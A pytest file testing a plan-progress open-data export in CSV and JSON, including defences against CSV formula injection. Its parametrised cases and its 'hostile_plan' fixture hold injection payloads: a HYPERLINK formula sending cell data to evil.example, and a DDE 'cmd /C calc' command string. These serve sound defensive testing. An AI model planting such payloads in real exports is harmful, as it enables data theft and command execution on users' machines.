"""Open data: each plan's actions with their latest progress as CSV and JSON, parsed back."""

import csv
import io
import json
from datetime import date

import pytest

from plans.open_data import OPEN_DATA_FIELDS, spreadsheet_safe
from plans.progress import Status
from tests.plans.factories import make_action, make_plan, make_priority, partner

pytestmark = pytest.mark.django_db


@pytest.fixture
def plan(home_page):
    plan = make_plan(home_page, "open", "Open plan")
    people = make_priority(plan, 1, title="People")
    places = make_priority(plan, 2, title="Places")
    make_action(
        people,
        'Refresh "Ask for Angela", with pubs; and clubs',
        reference="P01",
        group="Night-time economy",
        leads=[partner("Harborough District Council"), partner("Pubwatch")],
        target_date=date(2026, 9, 30),
        updates=[
            (2026, 1, Status.ON_TRACK, "Posters out.", [("Venues signed up", "12", "20")]),
            (
                2026,
                2,
                Status.COMPLETE,
                "All venues trained.\nFeedback gathered.",
                [("Venues signed up", "21", "20"), ("Staff trained", "64", "")],
            ),
        ],
    )
    make_action(places, "Speed watch in villages", reference="PL01")
    return plan


def expected_records():
    return [
        {
            "priority_number": 1,
            "priority": "People",
            "group": "Night-time economy",
            "reference": "P01",
            "action": 'Refresh "Ask for Angela", with pubs; and clubs',
            "lead_partners": ["Harborough District Council", "Pubwatch"],
            "target_date": "2026-09-30",
            "latest_period": "2026/27 Q2",
            "latest_status": "complete",
            "latest_status_label": "Complete",
            "latest_summary": "All venues trained.\nFeedback gathered.",
            "latest_figures": [
                {"label": "Venues signed up", "value": "21", "target": "20"},
                {"label": "Staff trained", "value": "64", "target": ""},
            ],
        },
        {
            "priority_number": 2,
            "priority": "Places",
            "reference": "PL01",
            "action": "Speed watch in villages",
            "lead_partners": [],
            "latest_period": "",
            "latest_status": "",
            "latest_figures": [],
        },
    ]


def test_json_has_every_action_with_its_latest_update(client, plan):
    response = client.get(plan.url + "progress.json")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    assert response["Access-Control-Allow-Origin"] == "*"
    data = json.loads(response.content)
    assert data["plan"]["title"] == "Open plan"
    assert data["plan"]["url"].endswith(plan.url)
    assert data["plan"]["starts_on"] == "2026-04-01"
    assert set(data["fields"]) == {name for name, _ in OPEN_DATA_FIELDS}
    assert len(data["actions"]) == 2
    for record, expected in zip(data["actions"], expected_records(), strict=True):
        assert set(record) == {name for name, _ in OPEN_DATA_FIELDS}
        for key, value in expected.items():
            assert record[key] == value, key


def test_csv_has_the_same_rows(client, plan):
    response = client.get(plan.url + "progress.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="open-progress.csv"' in response["Content-Disposition"]
    text = response.content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0]) == [name for name, _ in OPEN_DATA_FIELDS]
    json_records = json.loads(client.get(plan.url + "progress.json").content)["actions"]
    assert len(rows) == len(json_records) == 2
    for row, record in zip(rows, json_records, strict=True):
        assert row["action"] == record["action"]
        assert row["priority_number"] == str(record["priority_number"])
        assert row["lead_partners"] == "; ".join(record["lead_partners"])
        assert row["latest_status"] == record["latest_status"]
        assert row["latest_summary"] == record["latest_summary"]
    assert rows[0]["latest_figures"] == "Venues signed up: 21 (target 20); Staff trained: 64"


def test_plan_page_links_to_and_documents_the_open_data(client, plan):
    content = client.get(plan.url).content.decode()
    assert f'href="{plan.url}progress.csv"' in content
    assert f'href="{plan.url}progress.json"' in content
    for name, _description in OPEN_DATA_FIELDS:
        assert f"<code>{name}</code>" in content


def test_open_data_query_count_does_not_grow_with_actions(queries, plan):
    priority = plan.get_children().first().specific
    first = queries.get(plan.url + "progress.json").query_count
    for number in range(20):
        make_action(
            priority,
            f"Extra action {number}",
            leads=[partner("HDC")],
            updates=[(2026, 1, Status.ON_TRACK, "Fine.", [])],
        )
    assert queries.get(plan.url + "progress.json").query_count == first
    assert queries.get(plan.url + "progress.csv").query_count == first


# CSV injection: a cell a spreadsheet would run as a formula is written as text.


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (
            '=HYPERLINK("http://evil.example","Click")',
            '\'=HYPERLINK("http://evil.example","Click")',
        ),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-1+1", "'-1+1"),
        ("- a bullet point", "'- a bullet point"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        # A plain number cannot carry a formula, and stays a number.
        ("-5", "-5"),
        ("-2.5", "-2.5"),
        ("+5", "+5"),
        ("5", "5"),
        # Only the start of a cell matters.
        ("Speed watch = fewer speeders", "Speed watch = fewer speeders"),
        (" =1+1", " =1+1"),
        ("", ""),
        (3, 3),
    ],
)
def test_spreadsheet_safe(value, written):
    assert spreadsheet_safe(value) == written


@pytest.fixture
def hostile_plan(home_page):
    plan = make_plan(home_page, "hostile", "Hostile plan")
    priority = make_priority(plan, 1, title="=1+1")
    make_action(
        priority,
        '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
        reference="-5",
        group="@SUM(A1:A9)",
        intended_outcome="+cmd|' /C calc'!A0",
        success_measures="-2.5",
        leads=[partner("=2+2 Council"), partner("Police")],
        updates=[(2026, 1, Status.ON_TRACK, "\t=1+1", [("=Figure", "-5", "")])],
    )
    return plan


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_a_quote(
    client, hostile_plan
):
    text = client.get(hostile_plan.url + "progress.csv").content.decode("utf-8-sig")
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["priority"] == "'=1+1"
    assert row["action"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
    assert row["group"] == "'@SUM(A1:A9)"
    assert row["intended_outcome"] == "'+cmd|' /C calc'!A0"
    assert row["lead_partners"] == "'=2+2 Council; Police"
    assert row["latest_summary"] == "'\t=1+1"
    assert row["latest_figures"] == "'=Figure: -5"
    # Plain numbers are left as they are.
    assert row["reference"] == "-5"
    assert row["success_measures"] == "-2.5"
    assert row["priority_number"] == "1"
    for name, value in row.items():
        assert not value.startswith(("=", "+", "@", "\t", "\r")), name
        assert not value.startswith("-") or value in ("-5", "-2.5"), name


def test_json_keeps_the_text_as_written(client, hostile_plan):
    """JSON is not opened by spreadsheets as formulas: it is left exactly as entered."""
    data = json.loads(client.get(hostile_plan.url + "progress.json").content)
    [record] = data["actions"]
    assert record["priority"] == "=1+1"
    assert record["group"] == "@SUM(A1:A9)"
    assert record["latest_summary"] == "\t=1+1"
    assert record["lead_partners"] == ["=2+2 Council", "Police"]
